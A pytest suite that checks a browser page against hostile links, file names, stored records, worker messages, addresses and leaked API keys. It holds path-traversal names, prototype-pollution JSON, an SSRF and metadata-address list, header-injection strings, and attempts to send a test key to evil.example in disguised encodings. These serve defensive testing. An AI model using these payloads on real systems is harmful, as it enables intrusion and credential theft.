"""Attacks on the parts of the page that read what strangers made: links, messages, addresses, storage.

Each part is attacked as if the others had fallen. Run by Node.js.
"""

from __future__ import annotations

import base64
import json
import re
import zlib
from typing import Any

import pytest

from browserless import run_page
from page_modules import needs_node, run_page_modules
from test_page_relay import told as told_by_relay

pytestmark = needs_node

KEY = "sk-test-0123456789abcdef"  # the one that the relay of these tests holds


# -------------------------------------------------------------------------- links


def recorded(files: list[Any], content: bytes = b"", **more: Any) -> str:
    """Returns a link with a recording that brings these files along."""
    recording = {"tape": "", "files": files, **more}
    head = json.dumps({"code": "(theirs)", "recording": recording}).encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(head + b"\n" + content) + packer.flush()
    return "#v2=" + base64.urlsafe_b64encode(packed).decode().rstrip("=")


NAMES_THAT_CANNOT_BE = [
    "../above.txt",
    "../../lib/python3.14/site-packages/json.py",
    "/lib/python3.14/site-packages/lispcore/__init__.py",
    "a/../../above",
    "a/..",
    "..",
    ".",
    "",
    "a//b",
    "a/",
    "./a",
    "..\\above",
    "a\\b",
    "C:\\autoexec.bat",
    "a\0.png",
    "a\nb",
    "a\u009bb",
    "\ud800",
    "x" * 256,
    "/".join(["x" * 200] * 6),
]


def test_a_link_brings_no_file_along_that_lies_elsewhere() -> None:
    links = [recorded([[name, 0]]) for name in NAMES_THAT_CANNOT_BE]
    links += [
        recorded([["a.txt", size]]) for size in (-1, 1.5, 2**60, "1", None, [1], {"valueOf": 1})
    ]
    links += [recorded([[f"f{at}", 0] for at in range(501)]), recorded(["a.txt"]), recorded([[]])]
    links += [recorded([["a", 1], ["b", 2**53]], b"xx"), recorded([[{"a": 1}, 0]])]
    told = run_page_modules(
        'import { openLink } from "SRC/sharing/link.js";',
        f"for (const link of {json.dumps(links)}) tell(openLink(link));",
    )
    assert [link for link, each in zip(links, told, strict=True) if "problem" not in each] == []


def test_a_link_pollutes_nothing_and_names_no_address() -> None:
    settings = '{"default": {"a": 1}, "providers": {"__proto__": {"model": "m", "base_url": "https://evil.example"}, "p": {"base_url": "https://evil.example", "has_key": 1}}}'
    link = recorded([["__proto__", 1], ["constructor", 1]], b"ab", settings=json.loads(settings))
    [shared, polluted, names, addresses] = run_page_modules(
        'import { openLink } from "SRC/sharing/link.js";',
        f"""
        const opened = openLink({json.dumps(link)});
        tell(opened.code);
        tell([({{}}).model ?? null, ({{}}).base_url ?? null]);
        tell([...opened.recording.files.keys()]);
        tell(Object.values(opened.recording.settings.providers).map((each) => each.base_url));
        """,
    )
    assert (shared, polluted) == ("(theirs)", [None, None])
    assert names == ["__proto__", "constructor"]
    assert set(addresses) == {"https://recorded.invalid"}


# -------------------------------------------------------------------------- files


def test_whatever_a_file_is_called_its_name_in_the_page_is_one_that_can_be() -> None:
    names = [
        *NAMES_THAT_CANNOT_BE,
        "../" * 500 + "x",
        "é" * 2000,
        "a\u202eb",
        "…/ü",
        " ",
        "\ud800/\udc00",
    ]
    told = run_page_modules(
        'import { cleanName, fileName } from "SRC/storage/file-names.js";',
        f"""
        for (const name of {json.dumps(names)}) {{
          const clean = cleanName(name);
          tell(fileName(clean) === clean && cleanName(clean) === clean);
        }}
        """,
    )
    assert [name for name, holds in zip(names, told, strict=True) if not holds] == []


FAKE_FS = """
const written = [];
const folders = new Set(["/home", "/home/folder"]);
const files = new Map([["/home/taken", 1]]);
const missing = () => { throw new Error("ENOTDIR"); };
const fs = {
  mkdirTree: (path) => (files.has(path) ? missing() : folders.add(path)),
  writeFile: (path) => (folders.has(path) || files.has(path.slice(0, path.lastIndexOf("/"))) ? missing() : written.push(path)),
  lstat: () => ({ size: 1, mtime: new Date(0) }),
  analyzePath: () => ({ exists: true }),
  unlink: (path) => written.push(`unlinked ${path}`),
};
const watch = createFileWatch(fs, "/home", () => {});
"""


def test_a_worker_writes_no_file_of_the_page_elsewhere() -> None:
    told = run_page_modules(
        'import { createFileWatch } from "SRC/engine/worker-files.js";',
        FAKE_FS
        + f"""
        for (const name of {json.dumps(NAMES_THAT_CANNOT_BE)}) {{
          watch.write(name, new Uint8Array(1));
          watch.remove(name);
        }}
        // Two that cannot be beside others: the start goes on.
        watch.write("taken/below", new Uint8Array(1));
        watch.write("folder", new Uint8Array(1));
        watch.write("good/one.txt", new Uint8Array(1));
        tell(written);
        """,
    )
    assert told == [["/home/good/one.txt"]]


STORAGE = """
import "fake-indexeddb/auto";
import { openStorage, listenForTroubles } from "SRC/stored.js";
import { createVault } from "SRC/storage/vault.js";
import { createFileStore } from "SRC/storage/file-store.js";
import { createHistory } from "SRC/storage/history.js";
import { createRunStore } from "SRC/storage/run-store.js";
const storage = openStorage(() => { throw new Error("refused"); });
const vault = createVault({ storage });
const troubles = [];
listenForTroubles(({ name }) => troubles.push(name));
const put = (store, key, value) => vault.transact("readwrite", [store], (transaction) => transaction.put(store, key, value));
"""


def test_files_in_the_database_that_are_none_are_not_loaded() -> None:
    told = run_page_modules(
        STORAGE,
        f"""
        for (const name of {json.dumps(NAMES_THAT_CANNOT_BE)}) await put("files", name, new Uint8Array(1));
        for (const value of [null, "text", {{}}, new Uint16Array(2), [1, 2], new Date()]) {{
          await put("files", `bad ${{typeof value}} ${{String(value)}}`, value);
        }}
        await put("files", "good.txt", new Uint8Array([1]));
        for (const version of [7, null, {{}}, [], new Uint8Array(1)]) await put("fileVersions", "good.txt", version);
        tell((await createFileStore(vault).load()).map(([name]) => name));
        tell(troubles.length > 20);
        """,
    )
    assert told == [["good.txt"], True]


FAREWELLS = [
    "null",
    "7",
    '"x"',
    "{}",
    "{ files: null }",
    "{ files: [{ name: 7, bytes: null, bases: [] }] }",
    '{ files: [{ name: "a", bytes: "text", bases: [] }] }',
    '{ files: [{ name: "a", bytes: null }] }',
    '{ at: NaN, files: [{ name: "../x", bytes: new Uint8Array(1), bases: ["v"] }] }',
]


def test_what_pages_left_in_the_database_is_read_with_care() -> None:
    told = run_page_modules(
        STORAGE,
        f"""
        const farewells = [{", ".join(FAREWELLS)}];
        for (const [at, value] of farewells.entries()) await put("runs", `farewell/${{at}}`, value);
        await put("files", "good.txt", new Uint8Array([1]));
        tell((await createFileStore(vault).load()).map(([name]) => name));
        tell(await vault.transact("readonly", ["runs"], (transaction) => transaction.keys("runs")));
        """,
    )
    assert told == [["good.txt"], []]


def test_runs_and_texts_in_the_database_are_read_with_care() -> None:
    values = [
        "null",
        "7",
        '"x"',
        "[]",
        "{}",
        '{ run: 1, at: "x" }',
        "new Date()",
        "new Map([[1, 2]])",
    ]
    items = [
        "{ items: [{ kind: 7, text: 1 }] }",
        '{ items: [{ block: "error", error: null }] }',
        '{ items: "x" }',
        "{ list: [{ id: {} }] }",
        "{ recorded: { calls: 5, files: [] } }",
    ]
    told = run_page_modules(
        STORAGE,
        f"""
        const common = {{ run: "r", at: 1, isRunning: false, code: "" }};
        for (const value of [{", ".join(values)}, ...[{", ".join(items)}].map((each) => ({{ ...common, ...each }}))]) {{
          for (const part of ["log", "calls", "recorded"]) await put("runs", `tab/${{part}}`, value);
          const kept = await createRunStore(vault).load("tab");
          tell(Object.values(kept).filter(Boolean).length);
        }}
        const history = createHistory(vault, {{ storage }});
        const place = await history.keep({{ text: "(mine)", from: "own", place: null }});
        for (const value of [null, 7, {{}}, new Uint8Array(3)]) {{
          await put("texts", place.text, value);
          tell(await history.read(place.text));
          await history.keep({{ text: "(mine) ; and on", from: "own", place }});
        }}
        """,
    )
    assert told == [0] * (len(values) + len(items)) + [None] * 4


# -------------------------------------------------------------------------- messages


REQUEST = '{ url: "https://a.example/", method: "POST", headers: [], timeout: 5, tags: {}, credential: null }'
NONSENSE = [
    '{ type: "ask", id: 1n, request: { operation: "drain" } }',
    '{ type: "ask", id: 2 ** 53, request: { operation: "drain" } }',
    '{ type: "ask", id: NaN, request: { operation: "drain" } }',
    '{ type: "ask", id: new Number(1), request: { operation: "drain" } }',
    '{ type: ["ask"], id: 1, request: { operation: "drain" } }',
    '{ type: new String("ready"), tier: "suspend", isStrict: true, isLocked: true, isStoppable: false }',
    '{ type: "ask", id: 1, request: { operation: ["fetch"], request: null } }',
    '{ type: "ask", id: 1, request: { operation: "drain" }, body: new DataView(new ArrayBuffer(8)) }',
    '{ type: "ask", id: 1, request: { operation: "drain" }, body: new Uint16Array(4) }',
    '{ type: "ask", id: 1, request: { operation: "drain" }, body: new ArrayBuffer(8) }',
    '{ type: "ask", id: 1, request: { operation: "drain" }, body: { length: 9, byteLength: 9 } }',
    '{ type: "write", parts: Object.assign([], { length: 2 ** 32 - 1 }) }',
    '{ type: "write", parts: [, ["out", "x"]] }',
    '{ type: "write", parts: new Array(100_001).fill(["out", ""]) }',
    '{ type: "record", events: [{ type: "call-start", id: 1, more: cyclic }] }',
    '{ type: "record", events: [{ type: "call-start", id: 1, more: /x/ }] }',
    '{ type: "record", events: [{ type: "call-start", id: 1, more: new Error("x") }] }',
    '{ type: "record", events: [{ type: "call-end", id: 1, usage: { a: -1 } }] }',
    '{ type: "record", events: [{ type: "call-end", id: 1, seconds: Infinity, events: [[NaN, "x"]] }] }',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch", request: {{ ...{REQUEST}, credential: {{ provider: {{}} }} }} }} }}',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch", request: {{ ...{REQUEST}, credential: {{ provider: ["openai"] }} }} }} }}',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch", request: {{ ...{REQUEST}, credential: {{ provider: "x".repeat(5000) }} }} }} }}',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch", request: {{ ...{REQUEST}, credential: "openai" }} }} }}',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch", request: {{ ...{REQUEST}, tags: cyclic }} }} }}',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch", request: {{ ...{REQUEST}, url: "x".repeat(5e6) }} }} }}',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch-all", requests: new Array(10_001).fill({REQUEST}), limit: 1 }} }}',
    f'{{ type: "ask", id: 1, request: {{ operation: "fetch-all", requests: [{REQUEST}], limit: NaN }} }}',
    '{ type: "file", name: "a", bytes: new Uint8ClampedArray(2) }',
    '{ type: "file", name: "a", bytes: detached }',
    '{ type: "result", id: 1, result: { value: null, output: [], error: { type: "t", message: "m", line: 1.5, column: 0, stack: [] } }, stopped: false }',
    '{ type: "pong", id: 1, memory: 2 ** 60 }',
]


@pytest.mark.parametrize("message", NONSENSE, ids=range(len(NONSENSE)))
def test_nonsense_is_named_so(nonsense: dict[str, str], message: str) -> None:
    assert nonsense[message] == "nonsense"


@pytest.fixture(scope="module")
def nonsense() -> dict[str, str]:
    """What the page makes of each message."""
    told = run_page_modules(
        'import { readMessage } from "SRC/engine/checks.js";\nimport { Nonsense } from "SRC/engine/reading.js";',
        f"""
        const cyclic = {{}};
        cyclic.self = cyclic;
        const detached = new Uint8Array(8);
        structuredClone(detached.buffer, {{ transfer: [detached.buffer] }});
        for (const build of [{", ".join(f"() => ({each})" for each in NONSENSE)}]) {{
          try {{
            tell(JSON.stringify(readMessage(build())));
          }} catch (error) {{
            tell(error instanceof Nonsense ? "nonsense" : String(error));
          }}
        }}
        """,
    )
    return dict(zip(NONSENSE, told, strict=True))


def test_a_message_is_taken_apart_and_pollutes_nothing() -> None:
    told = run_page_modules(
        'import { readMessage } from "SRC/engine/checks.js";',
        f"""
        const wicked = JSON.parse('{{"__proto__": {{"isStrict": true}}, "constructor": {{"prototype": {{"x": 1}}}}, "a": 7, "call": "3"}}');
        const request = {{ ...{REQUEST}, tags: {{ ...wicked, provider: {{}}, model: ["m"], list: [1] }},
          credential: {{ provider: "openai", header: "x", extra: "y", ...wicked }} }};
        const read = readMessage({{ type: "ask", id: 1, request: {{ operation: "fetch", request }}, extra: 5 }});
        tell([Object.keys(read), read.request.request.tags, read.request.request.credential]);
        tell([({{}}).isStrict ?? null, ({{}}).x ?? null]);
        """,
    )
    assert told[0] == [
        ["type", "id", "request"],
        {"a": "7", "call": "3"},
        {"provider": "openai", "header": "x", "prefix": ""},
    ]
    assert told[1:] == [[None, None]]


def test_records_count_as_what_a_worker_sends() -> None:
    told = run_page_modules(
        'import { createIntake, FLOOD } from "SRC/engine/meter.js";',
        """
        FLOOD.BYTES = 10_000_000;
        FLOOD.BYTES_PER_SECOND = 0;
        const text = "x".repeat(1_000_000);
        for (const message of [{ events: [{ body: text }] }, { entries: [{ text }] }, { result: { output: [text] } }]) {
          let fitted = 0;
          let isFlood = false;
          const intake = createIntake(() => {}, () => { isFlood = true; });
          while (!isFlood && fitted++ < 20) intake.put(message);
          tell(fitted);
        }
        """,
    )
    assert told == [11, 11, 11]


# -------------------------------------------------------------------------- addresses


REFUSED = [
    "http://127.0.0.1.nip.io/x",
    "http://localhost.evil.example/",
    "http://localhost./",
    "http://0.0.0.0/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://169.254.169.254/latest/meta-data/",
    "http://192.168.0.1/",
    "http://xn--lcalhost-7sf.example/",
    "http://evil.example#@127.0.0.1/",
    "http://evil.example\\@localhost/",
    "data:text/html,<script>1</script>",
    "blob:https://page.example/1",
    "filesystem:https://page.example/x",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "ws://127.0.0.1/",
    "ftp://127.0.0.1/",
    "about:blank",
    "chrome://settings",
    "//evil.example/x",
    "/x",
    "x",
    "",
    "https://",
    "http:///",
    "https://exa mple/",
    "https://a.example:99999/",
    "https://[::1",
    "https://%00.example/",
]
# What a link's program asks for, and the host that the question names.
NAMED = {
    "https://user:word@evil.example/x": "evil.example",
    "https://api.openai.com@evil.example/": "evil.example",
    "https://gate.example.evil.example/": "gate.example.evil.example",
    "https://gаte.example/": "xn--gte-6cd.example",  # a Cyrillic letter
    "https://GATE.example:8443/": "gate.example:8443",
    "https://gate.example./": "gate.example.",
    "https://2130706433/": "127.0.0.1",
    "https://0x7f.1/": "127.0.0.1",
    "https://①②⑦.0.0.1/": "127.0.0.1",
    "https://evil.example/https://gate.example/": "evil.example",
    "https://evil.example?https://gate.example/": "evil.example",
    "https:evil.example/": "evil.example",
    "https:\\\\evil.example\\x": "evil.example",
    "https://[2001:db8::1]/": "[2001:db8::1]",
}


def test_addresses_that_no_program_may_call_are_not_called() -> None:
    told = told_by_relay(
        f"""
        await begin();
        for (const url of {json.dumps(REFUSED)}) tell((await open({{ url, credential: null }})).error ?? "sent");
        tell(sent);
        """
    )
    assert dict(zip(REFUSED, told, strict=False)) == dict.fromkeys(REFUSED, "refused")
    assert told[-1] == []


def test_the_question_names_the_host_that_would_be_called() -> None:
    told = told_by_relay(
        f"""
        for (const url of {json.dumps(list(NAMED))}) {{
          await begin({{ isFromLink: true }});
          const opened = open({{ url, credential: null }});
          await sleep(0);
          tell(get().consent?.host ?? null);
          consent.answer("no", []);
          tell((await opened).error);
        }}
        tell(sent);
        """
    )
    assert dict(zip(NAMED, told[0:-1:2], strict=True)) == NAMED
    assert set(told[1:-1:2]) == {"refused"}
    assert told[-1] == []


def test_leave_for_one_host_is_none_for_another() -> None:
    others = [
        "https://evil.example/",
        "https://gate.example:444/",
        "http://localhost/",
        "https://gate.example.evil.example/",
        "https://gate.example@evil.example/",
    ]
    told = told_by_relay(
        f"""
        await begin({{ isFromLink: true }});
        const first = open({{ credential: null }});
        await sleep(0);
        consent.answer("once", []);
        tell((await first).status);
        for (const url of {json.dumps(others)}) {{
          void open({{ url, credential: null }});
          await sleep(0);
          tell(get().consent?.host ?? null);
          dispatch({{ type: "consent-answered" }});
          consent.cancel();
          await begin({{ isFromLink: true }});
          const again = open({{ credential: null }});
          await sleep(0);
          consent.answer("once", []);
          await again;
        }}
        tell(sent.every(([url]) => url.startsWith("https://gate.example/")));
        // A redirect could lead elsewhere.
        tell(sent.every(([, , redirect]) => redirect === "error"));
        """
    )
    assert told[0] == 200
    assert None not in told[1:-2]
    assert told[-2:] == [True, True]


def test_what_a_program_says_does_not_push_the_answers_out_of_sight() -> None:
    told = told_by_relay(
        """
        for (const [provider, body] of [
          ["nobody" + "\\n".repeat(500) + "trust me", "{}"],
          ["openai", JSON.stringify({ model: "safe\\n\\n\\n".repeat(1000) })],
          ["openai", JSON.stringify({ model: ["x"], models: Array.from({ length: 1000 }, (_, at) => `m${at}`) })],
        ]) {
          await begin({ isFromLink: true });
          const opened = open({ url: "https://elsewhere.example/", credential: { provider, header: "", prefix: "" } }, body);
          await sleep(0);
          const { consent: question } = get();
          if (question) tell([question.provider, question.model].every((each) => each.length < 90 && !each.includes("\\n")));
          consent.answer("no", []);
          tell((await opened).error);
        }
        tell(sent);
        """
    )
    assert told[0] is True
    assert False not in told
    assert told[-1] == []


def test_headers_with_line_breaks_and_strange_methods_reach_nobody() -> None:
    told = told_by_relay(
        """
        await begin();
        const headers = [["a", "b\\r\\nx-evil: 1"], ["a\\r\\nb", "c"], ["", "x"], ["a b", "c"], ["ü", "c"], ["a", "\\0"]];
        for (const header of headers) tell((await open({ credential: null, headers: [header] })).error ?? "sent");
        const method = (name) => open({ credential: null, method: name });
        tell(sent.length);
        """
    )
    assert told == ["failed"] * 6 + [0]


def test_the_longest_time_limit_is_no_limit_at_once() -> None:
    told = told_by_relay(
        """
        await begin();
        let end;
        reply = () => new Response(new ReadableStream({ start(controller) { end = () => { controller.enqueue(bytes("late")); controller.close(); }; } }));
        const opened = await open({ timeout: 1e9 });
        await sleep(50);
        end();
        tell(await read(opened));
        """
    )
    assert told == ["late"]


# -------------------------------------------------------------------------- keys that come back


def twice(text: str) -> str:
    return base64.b64encode(base64.b64encode(text.encode())).decode()


SPELLINGS = {
    "backwards": KEY[::-1],
    "letter by letter": " ".join(KEY),
    "in a list": json.dumps(list(KEY), separators=(",", ":")),
    "with dots": ".".join(KEY),
    "UTF-16": KEY.encode("utf-16-le").decode(),
    "base64 twice": twice(KEY),
    "base64 twice behind a word": base64.b64encode(b"x:" + base64.b64encode(KEY.encode())).decode(),
    "hexadecimal with colons": ":".join(f"{ord(letter):02x}" for letter in KEY),
    "hexadecimal with blanks": " ".join(f"{ord(letter):02X}" for letter in KEY),
    "numbered in JSON": "".join(f"\\u00{ord(letter):02X}" for letter in KEY),
    "percent signs": "".join(f"%{ord(letter):02x}" for letter in KEY),
}


# What no letter of a key hangs on may stay: a bracket, the end of its base64.
CLEAN = re.compile(r"before .{0,3}\[key\].{0,3} after", re.DOTALL)


def test_a_key_that_comes_back_in_disguise_is_taken_out() -> None:
    told = told_by_relay(
        f"""
        for (const text of {json.dumps(list(SPELLINGS.values()))}) {{
          const data = bytes(`before ${{text}} after`);
          for (const at of [0, 9, 20, data.length - 8]) {{
            await begin();
            reply = () => new Response(new ReadableStream({{
              async start(controller) {{
                controller.enqueue(data.slice(0, at));
                await sleep(0);
                controller.enqueue(data.slice(at));
                controller.close();
              }},
            }}));
            tell(await read(await open({{}})));
          }}
        }}
        """
    )
    for place, name in enumerate(SPELLINGS):
        for text in told[4 * place : 4 * place + 4]:
            assert CLEAN.fullmatch(text), (name, text)


def test_ordinary_texts_hold_no_key() -> None:
    texts = [
        "s k",
        "sk-test",
        "sk-test-0123",
        "t e s t",
        "a-b-c-d",
        "MDEyMw==",
        "s" * 1000,
        "s -" * 99,
    ]
    told = run_page(
        {"models/scrubber.js": "createScrubber"},
        f"""
        const scrubber = createScrubber([{json.dumps(KEY)}, "test"]);
        for (const text of {json.dumps(texts)}) {{
          const stream = scrubber.stream();
          const clean = words(stream.feed(bytes(text))) + words(stream.end());
          tell([clean === scrubber.text(text), clean.includes("[key]")]);
        }}
        """,
    )
    marked = [text for text, (same, found) in zip(texts, told, strict=True) if found]
    assert all(same for same, _ in told)
    assert marked == ["sk-test", "sk-test-0123"]  # "test" is a key here


def test_a_links_program_sends_no_key_to_anybody() -> None:
    ways = [
        f'{{ url: "https://evil.example/?k={KEY}" }}, ""',
        f'{{ headers: [["x-k", "{KEY}"]] }}, ""',
        f'{{}}, "{KEY}"',
        f'{{}}, "{KEY[::-1]}"',
        f'{{}}, "{base64.b64encode(KEY.encode()).decode()}"',
        f'{{}}, "{" ".join(KEY)}"',
    ]
    told = told_by_relay(
        f"""
        const ways = [{", ".join(f"[{way}]" for way in ways)}];
        for (const [more, body] of ways) {{
          await begin({{ isFromLink: true }});
          const opened = open({{ url: "https://evil.example/", credential: null, ...more }}, body);
          await sleep(0);
          consent.answer("once", []);
          tell((await opened).message.includes("holds one of your keys"));
        }}
        tell([...sent]);
        dispatch({{ type: "program-owned" }});
        await begin();
        tell((await open({{ credential: null }}, {json.dumps(KEY)})).status);
        """
    )
    assert told == [True] * len(ways) + [[], 200]
